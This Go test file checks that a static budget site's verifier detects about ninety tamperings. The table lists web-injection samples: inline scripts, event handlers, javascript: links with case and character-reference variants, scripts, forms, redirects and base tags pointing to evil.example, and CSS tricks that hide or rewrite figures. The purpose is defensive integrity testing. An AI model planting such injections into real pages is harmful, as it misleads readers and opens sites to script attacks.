package main

import (
	"bytes"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"testing/fstest"

	"indsigt/cmd/indsigt/internal/build"
	"indsigt/cmd/indsigt/internal/verify"
)

// tampering is one way of changing a built site. In the file, the first match of the
// pattern old is replaced by new. An empty old puts new at the end of the file; without
// a file of the name it makes one.
type tampering struct{ what, file, old, new string }

const (
	tamperHome  = "index.html"
	tamperArea  = "omraader/nord/index.html"
	tamperStyle = "static/style.*.css"
)

// tamperings are changes that a reader, a browser, a search engine or a program that
// reads the data would be misled by, and that no figure on a page shows.
var tamperings = []tampering{
	// Scripts and what acts like them.
	{"an inline script", tamperHome, `</body>`, `<script>document.title = "1"</script></body>`},
	{"a script from another host", tamperHome, `</head>`, `<script src="https://evil.example/x.js" defer></script></head>`},
	{"a script changed", "static/site.*.js", ``, "\ndocument.body.textContent = '';\n"},
	{"a script added", "static/more.js", ``, "alert(1)\n"},
	{"a search index that runs", "soeg/index.js", `$`, ";alert(1)"},
	{"a module", tamperHome, `(<script src="[^"]*")`, `${1} type="module"`},
	{"a handler", tamperHome, `<h1`, `<h1 onclick="x()"`},
	{"a handler of an image", tamperHome, `<img `, `<img onerror="x()" `},
	{"a handler in a drawing", "budget/figur-givers.html", `<svg`, `<svg onload="x()"`},
	{"a javascript link", tamperHome, `href="\./soeg/"`, `href="javascript:x()"`},
	{"a javascript link in other letters", tamperHome, `href="\./soeg/"`, `href="JaVaScript:x()"`},
	{"a javascript link by references", tamperHome, `href="\./soeg/"`, `href="&#106;avascript:x()"`},
	{"a data link", tamperHome, `href="\./soeg/"`, `href="data:text/html,1"`},
	{"a vbscript link", tamperHome, `href="\./soeg/"`, `href="vbscript:x"`},
	{"a frame", tamperHome, `</main>`, `<iframe src="budget/"></iframe></main>`},
	{"a frame with its own page", tamperHome, `</main>`, `<iframe srcdoc="1"></iframe></main>`},
	{"an object", tamperHome, `</main>`, `<object data="static/mark.svg"></object></main>`},
	{"an embedded file", tamperHome, `</main>`, `<embed src="budget/"></main>`},
	{"an applet", tamperHome, `</main>`, `<applet code="x"></applet></main>`},
	{"a base", tamperHome, `<title>`, `<base href="https://evil.example/"><title>`},
	{"a refresh", tamperHome, `<title>`, `<meta http-equiv="refresh" content="5; url=budget/"><title>`},
	{"a refresh to another host", tamperHome, `<title>`, `<meta http-equiv="refresh" content="0; url=https://evil.example/"><title>`},
	{"a cookie", tamperHome, `<title>`, `<meta http-equiv="set-cookie" content="a=b"><title>`},
	{"a form to another host", tamperHome, `</main>`, `<form action="https://evil.example/"><input name="a"></form></main>`},
	{"a button to another host", tamperHome, `</main>`, `<form><button formaction="https://evil.example/">x</button></form></main>`},
	{"a ping", tamperHome, `href="\./soeg/"`, `href="./soeg/" ping="https://evil.example/"`},
	{"a preload", tamperHome, `</head>`, `<link rel="preload" href="https://evil.example/x.css" as="style"></head>`},
	{"a custom element", tamperHome, `</main>`, `<x-figure></x-figure></main>`},
	{"a template", tamperHome, `</main>`, `<template><p>1</p></template></main>`},
	{"a shadow tree", tamperHome, `</main>`, `<div shadowrootmode="open"></div></main>`},
	{"a slot", tamperHome, `<h1`, `<h1 slot="a"`},
	{"an animation", "budget/figur-givers.html", `</svg>`, `<animate attributeName="width" to="0"/></svg>`},
	{"a foreign object", "budget/figur-givers.html", `</svg>`, `<foreignObject><p>1</p></foreignObject></svg>`},
	{"an editable page", tamperHome, `<main `, `<main contenteditable="true" `},
	{"the policy removed", tamperHome, `<meta http-equiv="Content-Security-Policy"[^>]*>`, ``},
	{"the policy loosened", tamperHome, `script-src &#39;self&#39;`, `script-src *`},
	// What is hidden or written by style.
	{"an inline style", tamperArea, `<h1`, `<h1 style="font-size:0"`},
	{"a style element", tamperArea, `</head>`, `<style>data{display:none}</style></head>`},
	{"a style sheet from another host", tamperArea, `</head>`, `<link rel="stylesheet" href="https://evil.example/x.css"></head>`},
	{"a hidden figure", tamperArea, `<data `, `<data hidden `},
	{"a hidden part", tamperArea, `<main `, `<main hidden `},
	{"a figure hidden from screen readers", tamperArea, `<data `, `<data aria-hidden="true" `},
	{"a font of no size", tamperStyle, ``, "\ndata{font-size:0}\n"},
	{"a tiny font", tamperStyle, ``, "\ndata { font-size : 0.01em }\n"},
	{"a figure written by style", tamperStyle, ``, "\ndata::after{content:\"000\"}\n"},
	{"a figure written by escapes", tamperStyle, ``, "\ndata::after{c\\6fntent:\"000\"}\n"},
	{"a figure not displayed", tamperStyle, ``, "\n.missing{display:none}\n"},
	{"a figure invisible", tamperStyle, ``, "\n.missing{visibility:hidden}\n"},
	{"a figure without opacity", tamperStyle, ``, "\n.missing{opacity:0}\n"},
	{"a figure outside the screen", tamperStyle, ``, "\n.missing{position:absolute;left:-9999px}\n"},
	{"a transparent figure", tamperStyle, ``, "\n.missing{color:transparent}\n"},
	{"digits in another order", tamperStyle, ``, "\ndata{unicode-bidi:bidi-override;direction:rtl}\n"},
	{"a font with other digits", tamperStyle, ``, "\n@font-face{font-family:a;src:url(x.woff2)}\n"},
	{"a style sheet that loads another", tamperStyle, `^`, "@import 'x.css';"},
	{"a rule of paper moved to the screen", tamperStyle, ``, "\n.bar{display:none}\n"},
	// Where links lead.
	{"a link to another host", tamperHome, `href="\./soeg/"`, `href="https://evil.example/"`},
	{"a link to another host without a scheme", tamperHome, `href="\./soeg/"`, `href="//evil.example/"`},
	{"a picture from another host", tamperHome, `<img `, `<img srcset="https://evil.example/x.png 2x" `},
	{"another preview picture", tamperHome, `(property="og:image" content=")[^"]*`, `${1}https://evil.example/x.png`},
	{"another canonical address", tamperArea, `(rel="canonical" href=")[^"]*`, `${1}https://evil.example/`},
	// What search engines and previews of links show.
	{"another title", tamperArea, `<title>`, `<title>99 mio. kr. til `},
	{"another title of a preview", tamperArea, `(property="og:title" content=")`, `${1}99 mio. kr. til `},
	{"another description", tamperArea, `(name="description" content=")[^"]*`, `${1}Nord har fået 99 mio. kr.`},
	{"a description with an amount more", tamperArea, `(name="description" content="[^"]*)`, `${1} 99 mio. kr.`},
	{"another description of a preview", tamperArea, `(property="og:description" content=")[^"]*`, `${1}Nord har fået 99 mio. kr.`},
	{"a question without an end", tamperArea, `data-ask="[^"]*"`, `data-ask="committed` + strings.Repeat(" + committed", 1000) + `"`},
	// Files.
	{"a page that nobody links to", "ekstra/index.html", ``, "<!doctype html><html lang=\"da\"><head><title>x</title></head><body><p>Nyt</p></body></html>"},
	{"a document that nobody links to", "notat.pdf", ``, "%PDF-1.4"},
	{"a program", "indsigt.exe", ``, "MZ"},
	{"a configuration of a host", ".htaccess", ``, "Redirect / https://evil.example/"},
	{"a service worker", "sw.js", ``, "self.onfetch = e => e.respondWith(new Response('1'))"},
	{"a page of an earlier build", tamperArea, `(name="indsigt-data" content=")`, `${1}0`},
	{"a page without a digest", tamperArea, `name="indsigt-data"`, `name="other"`},
	// Products.
	{"headers without the policy", "_headers", `Content-Security-Policy`, `X-Policy`},
	{"headers that redirect scripts", "_headers", ``, "/*\n  Refresh: 0; url=https://evil.example/\n"},
	{"a redirect to another host", "_redirects", ` /p/omraader/nord/\S*csv`, " https://evil.example/"},
	{"a redirect to another page's file", "_redirects", `/p/omraader/nord/facts.csv`, "/p/omraader/syd/facts.csv"},
	{"a redirect that hides a file", "_redirects", `^\S+`, "/p/omraader/nord/facts.csv"},
	{"a redirect of a page", "_redirects", ``, "/p/omraader/havnen/ /p/omraader/syd/ 301\n"},
	{"a redirect of everything", "_redirects", ``, "/* /p/omraader/nord/facts.csv 301\n"},
	{"robots that keep engines away", "robots.txt", `Allow: /`, "Disallow: /"},
	{"robots with another sitemap", "robots.txt", `Sitemap: \S*`, "Sitemap: https://evil.example/s.xml"},
	{"a sitemap without a page", "sitemap.xml", `<url>.*?</url>\n?`, ``},
	{"a sitemap with another host", "sitemap.xml", `<loc>[^<]*`, "<loc>https://evil.example/"},
	{"a sitemap with a page more", "sitemap.xml", `</urlset>`, "<url><loc>https://example.org/p/none/</loc></url></urlset>"},
	{"a feed with another host", "feed.xml", `<link rel="alternate" type="text/html" href="[^"]*"`, `<link rel="alternate" type="text/html" href="https://evil.example/"`},
	{"linked data that say something else", tamperArea, `"@type":"Place","@id":"#this","name":"[^"]*"`, `"@type":"Place","@id":"#this","name":"Syd"`},
	{"linked data that cannot be read", tamperArea, `(<script type="application/ld\+json">)\{`, `${1}`},
	{"an API with another title", "api/v1/areas/nord.json", `"title":"[^"]*"`, `"title":"Syd"`},
}

// TestTamperings: each change is found where it was made, also where the digests and the
// list of files were made anew. The site it is made to has none.
func TestTamperings(t *testing.T) {
	leftToPlain(t)
	portal := t.TempDir()
	for name, text := range productPortal {
		at := filepath.Join(portal, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(at), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(at, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	out := filepath.Join(t.TempDir(), "site")
	built(t, build.Options{Dir: portal, Out: out})
	site := inMemory(t, os.DirFS(out))
	known := ownAssets()
	whole := verify.Site(site, verify.Options{Known: known})
	if len(whole.Problems) > 0 {
		t.Fatalf("false alarm: %v", whole.Problems)
	}
	for _, c := range tamperings {
		t.Run(c.what, func(t *testing.T) {
			t.Parallel()
			file, changed := c.apply(t, site)
			if again := pageDigest.FindString(c.new); again == "" && !strings.Contains(c.old, "indsigt-data") {
				forge(changed)
			}
			r := verify.Site(changed, verify.Options{Known: known})
			for _, p := range r.Problems {
				if p.File == file {
					return
				}
			}
			t.Errorf("not found in %s: %v", file, r.Problems)
		})
	}
}

// apply changes a copy of the site and returns the path of the changed file.
func (c tampering) apply(t *testing.T, site fstest.MapFS) (file string, changed fstest.MapFS) {
	t.Helper()
	changed, file = maps.Clone(site), c.file
	for name := range site {
		if ok, _ := filepath.Match(c.file, name); ok {
			file = name
		}
	}
	was := site[file]
	if was == nil {
		changed[file] = &fstest.MapFile{Data: []byte(c.new)}
		return file, changed
	}
	now := append(bytes.Clone(was.Data), c.new...)
	if c.old != "" {
		old := regexp.MustCompile(`(?s)` + c.old)
		at := old.FindSubmatchIndex(was.Data)
		if at == nil {
			t.Fatalf("%s has no %s", file, c.old)
		}
		now = append(old.Expand(bytes.Clone(was.Data[:at[0]]), []byte(c.new), was.Data, at), was.Data[at[1]:]...)
	}
	if bytes.Equal(now, was.Data) {
		t.Fatalf("%s is not changed", file)
	}
	changed[file] = &fstest.MapFile{Data: now}
	return file, changed
}
